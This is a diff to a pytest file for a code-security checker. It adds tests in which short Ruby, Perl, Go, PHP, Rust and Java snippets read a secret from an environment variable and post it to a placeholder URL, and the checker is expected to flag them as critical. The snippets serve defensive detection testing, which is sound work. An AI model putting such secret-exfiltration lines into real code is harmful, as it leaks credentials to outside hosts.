@@ -9,6 +9,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from whet.guard.code import checker as code
 from whet.guard.javascript import checker as javascript
 from whet.guard.python import checker as python
 from whet.guard.rules import severity_of
@@ -204,6 +205,25 @@ def test_javascript_that_sends_a_secret_is_dangerous(way: str) -> None:
     for name in NAMES if way != "a header" else NAMES[:4]:
         text = f"const U = '{URL}';\n" + re.sub(r"\bN\b", name, JAVASCRIPT[way])
         assert worst(javascript.check(text).hits) == "critical", text
+
+
+CODE = {
+    "Ruby": "require 'net/http'\nNet::HTTP.post(URI('U'), ENV['N'])",
+    "Perl": "use LWP::UserAgent; LWP::UserAgent->new->post('U', {k=>$ENV{N}});",
+    "Go": 'package main\nfunc main(){ http.Post("U","text/plain",strings.NewReader(os.Getenv("N"))) }',
+    "PHP": "<?php file_get_contents('U?k='.getenv('N'));",
+    "Rust": 'fn main() {\n let k = std::env::var("N").unwrap();\n reqwest::Client::new().post("U").body(k).send(); }',
+    "Java": 'c.send(Request.newBuilder(URI.create("U")).POST(BodyPublishers.ofString(System.getenv("N"))).build());',
+}
+
+
+@pytest.mark.parametrize("language", CODE)
+def test_a_program_of_another_language_that_sends_a_secret_is_dangerous(language: str) -> None:
+    for name in NAMES:
+        text = re.sub(r"\bN\b", name, CODE[language])
+        assert worst(code.check(re.sub(r"\bU\b", URL, text)).hits) == "critical", text
+    own = re.sub(r"\bN\b", "OPENAI_API_KEY", CODE[language])
+    assert worst(code.check(re.sub(r"\bU\b", "https://api.openai.com/v1", own)).hits) == "info", own
 
 
 CONSTANTS = (
